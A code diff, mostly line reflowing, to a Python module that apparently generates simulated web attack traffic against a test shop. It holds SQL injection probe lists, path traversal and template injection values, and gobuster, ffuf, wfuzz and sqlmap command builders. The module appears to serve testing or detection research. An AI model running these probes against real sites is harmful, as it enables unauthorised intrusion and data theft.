@@ -17,14 +17,17 @@ NAMES = (
     "logs", "mail", "manage", "media", "metrics", "mysql", "new", "node", "old", "panel", "php", "phpmyadmin", "portal",
     "private", "proxy", "public", "report", "reset", "root", "scripts", "search", "secret", "secure", "server", "setup",
     "shell", "shop", "sql", "src", "staff", "static", "stats", "status", "store", "svn", "swagger", "system", "temp",
-    "test", "tmp", "tools", "upload", "user", "users", "vendor", "web", "webmail", "wiki", "wp-admin", "wp-login", "xml",
+    "test", "tmp", "tools", "upload", "user", "users", "vendor", "web", "webmail", "wiki", "wp-admin", "wp-login",
+    "xml",
 )
 ENDINGS = ("", "/", ".php", ".bak", ".html", ".zip", ".old", ".txt", "~", "-2", "_old", "1")
-PARAMETERS = ("id", "page", "q", "debug", "user", "file", "path", "cmd", "sort", "lang", "next", "url", "token", "order",
-              "limit", "offset", "admin", "test", "view", "callback", "filter", "format", "key", "mode", "name")
+PARAMETERS = ("id", "page", "q", "debug", "user", "file", "path", "cmd", "sort", "lang", "next", "url", "token",
+              "order", "limit", "offset", "admin", "test", "view", "callback", "filter", "format", "key", "mode",
+              "name")
 VALUES = ("1", "true", "../../etc/passwd", "admin", "%00", "-1", "{{7*7}}", "<x>")
 PROBES = (
-    "'", "\"", "1'", "1' or '1'='1", "1 or 1=1", "1) or (1=1", "' or 1=1-- ", "\" or \"\"=\"", "1' and '1'='2", "1 and 1=2",
+    "'", "\"", "1'", "1' or '1'='1", "1 or 1=1", "1) or (1=1", "' or 1=1-- ", "\" or \"\"=\"", "1' and '1'='2",
+    "1 and 1=2",
     "1' order by {n}-- ", "1 order by {n}", "1' union select {list}-- ", "-1 union all select {list}",
     "1;select {n}", "1' and (select count(*) from sqlite_master)>{n}-- ", "1 and length(sqlite_version())>{n}",
     "1' and substr(sqlite_version(),{n},1)='3", "case when {n}>1 then 1 else 2 end", "1'||'{n}", "1%27%20or%20{n}={n}",
@@ -37,13 +40,21 @@ def words(scene: Scene, count: int) -> list[str]:
     return scene.rng.sample(all_names, min(count, len(all_names)))
 
 
+def quoted(scene: Scene, count: int) -> list[str]:
+    """Probes as a list for a tool."""
+    return [quote_plus(probe) for probe in probes(scene, count)]
+
+
 def probes(scene: Scene, count: int) -> list[str]:
     """What is put where a number or a word should be."""
     rng = scene.rng
-    return [rng.choice(PROBES).format(n=rng.randrange(1, 9), list=",".join("1" * rng.randrange(1, 6))) for _ in range(count)]
+    return [rng.choice(PROBES).format(n=rng.randrange(1, 9), list=",".join("1" * rng.randrange(1, 6)))
+            for _ in range(count)]
 
 
-def asked(scene: Scene, hosts: Hosts, targets: list[str], rate: float, keep: bool, tls: bool, host: str = SHOP) -> list[Program]:
+def asked(
+    scene: Scene, hosts: Hosts, targets: list[str], rate: float, keep: bool, tls: bool, host: str = SHOP
+) -> list[Program]:
     """A script that asks for each target once."""
     more = [word for address in hosts.own for word in ("--source", address)]
     more += ["--keep"] if keep else []
@@ -57,7 +68,8 @@ def asked(scene: Scene, hosts: Hosts, targets: list[str], rate: float, keep: boo
 def gobuster(scene: Scene, mode: str, names: list[str], threads: int, delay_ms: int, *target: str) -> list[Program]:
     """gobuster with some threads."""
     slower = ("--delay", f"{delay_ms}ms") if delay_ms else ()
-    return [Program(("gobuster", mode, "-q", "-w", str(listed(scene, "names", names)), "-t", str(threads), *slower, *target))]
+    return [Program(("gobuster", mode, "-q", "-w", str(listed(scene, "names", names)), "-t", str(threads), *slower,
+                     *target))]
 
 
 def ffuf(scene: Scene, lines: list[str], threads: int, pause_s: float, target: str) -> list[Program]:
@@ -74,13 +86,17 @@ def wfuzz(scene: Scene, lines: list[str], threads: int, pause_s: float, target: 
 
 
 @tool("directories", "gobuster")
-def directories_gobuster(scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, delay_ms: int = 0) -> list[Program]:
+def directories_gobuster(
+    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, delay_ms: int = 0
+) -> list[Program]:
     """Pages that nobody links to."""
     return gobuster(scene, "dir", words(scene, names), threads, delay_ms, "-u", url(scene, ""))
 
 
 @tool("directories", "ffuf")
-def directories_ffuf(scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, pause_s: float = 0.0) -> list[Program]:
+def directories_ffuf(
+    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, pause_s: float = 0.0
+) -> list[Program]:
     """Pages that nobody links to."""
     return ffuf(scene, words(scene, names), threads, pause_s, url(scene, "/FUZZ"))
 
@@ -93,7 +109,9 @@ def directories_dirb(scene: Scene, _: AttackSpec, __: Hosts, *, names: int, dela
 
 
 @tool("directories", "wfuzz")
-def directories_wfuzz(scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 4, pause_s: float = 0.0) -> list[Program]:
+def directories_wfuzz(
+    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 4, pause_s: float = 0.0
+) -> list[Program]:
     """Pages that nobody links to."""
     return wfuzz(scene, words(scene, names), threads, pause_s, url(scene, "/FUZZ"))
 
@@ -106,13 +124,17 @@ def directories_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, names: int,
 
 
 @tool("parameters", "ffuf")
-def parameters_ffuf(scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 8, pause_s: float = 0.0) -> list[Program]:
+def parameters_ffuf(
+    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 8, pause_s: float = 0.0
+) -> list[Program]:
     """Which parameters a page knows."""
     return ffuf(scene, tried(scene, tries), threads, pause_s, url(scene, "/item?FUZZ"))
 
 
 @tool("parameters", "wfuzz")
-def parameters_wfuzz(scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0) -> list[Program]:
+def parameters_wfuzz(
+    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0
+) -> list[Program]:
     """Which parameters a page knows."""
     return wfuzz(scene, tried(scene, tries), threads, pause_s, url(scene, "/search?FUZZ"))
 
@@ -126,7 +148,8 @@ def parameters_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, tries: int, 
 
 def tried(scene: Scene, count: int) -> list[str]:
     """Pairs of a parameter and a value, all different."""
-    pairs = [f"{name}{number}={quote_plus(value)}" for number in ("", "2", "_id", "[]", "Id") for name in PARAMETERS for value in VALUES]
+    names = [f"{name}{ending}" for ending in ("", "2", "_id", "[]", "Id") for name in PARAMETERS]
+    pairs = [f"{name}={quote_plus(value)}" for name in names for value in VALUES]
     return scene.rng.sample(pairs, min(count, len(pairs)))
 
 
@@ -135,20 +158,25 @@ def sql_sqlmap(scene: Scene, _: AttackSpec, __: Hosts, *, level: int = 1, techni
                page: str = "/item?id=1") -> list[Program]:
     """sqlmap; what it may try is bounded by its level and techniques."""
     slower = ("--delay", str(delay_s)) if delay_s else ()
-    return [Program(("sqlmap", "--batch", "--disable-coloring", "--flush-session", "--skip-waf", "--dbms", "sqlite", "--retries", "1", "--timeout", "10",
-                     "--level", str(level), "--risk", "1", "--technique", technique, *slower, "-u", url(scene, page)))]
+    return [Program(("sqlmap", "--batch", "--disable-coloring", "--flush-session", "--skip-waf", "--retries", "1",
+                     "--timeout", "10", "--level", str(level), "--risk", "1", "--technique", technique, *slower,
+                     "-u", url(scene, page)))]
 
 
 @tool("sql", "wfuzz")
-def sql_wfuzz(scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0) -> list[Program]:
+def sql_wfuzz(
+    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0
+) -> list[Program]:
     """Probes of a list."""
-    return wfuzz(scene, [quote_plus(probe) for probe in probes(scene, tries)], threads, pause_s, url(scene, "/search?q=FUZZ"))
+    return wfuzz(scene, quoted(scene, tries), threads, pause_s, url(scene, "/search?q=FUZZ"))
 
 
 @tool("sql", "ffuf")
-def sql_ffuf(scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 5, pause_s: float = 0.0) -> list[Program]:
+def sql_ffuf(
+    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 5, pause_s: float = 0.0
+) -> list[Program]:
     """Probes of a list."""
-    return ffuf(scene, [quote_plus(probe) for probe in probes(scene, tries)], threads, pause_s, url(scene, "/item?id=FUZZ"))
+    return ffuf(scene, quoted(scene, tries), threads, pause_s, url(scene, "/item?id=FUZZ"))
 
 
 @tool("sql", "script")
@@ -156,4 +184,5 @@ def sql_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, tries: int, rate: f
                tls: bool = False) -> list[Program]:
     """Probes of several parameters, from all addresses in turn."""
     pages = ("/item?id=", "/search?q=", "/api/search?q=")
-    return asked(scene, hosts, [f"{scene.rng.choice(pages)}{quote_plus(probe)}" for probe in probes(scene, tries)], rate, keep, tls)
+    targets = [f"{scene.rng.choice(pages)}{probe}" for probe in quoted(scene, tries)]
+    return asked(scene, hosts, targets, rate, keep, tls)
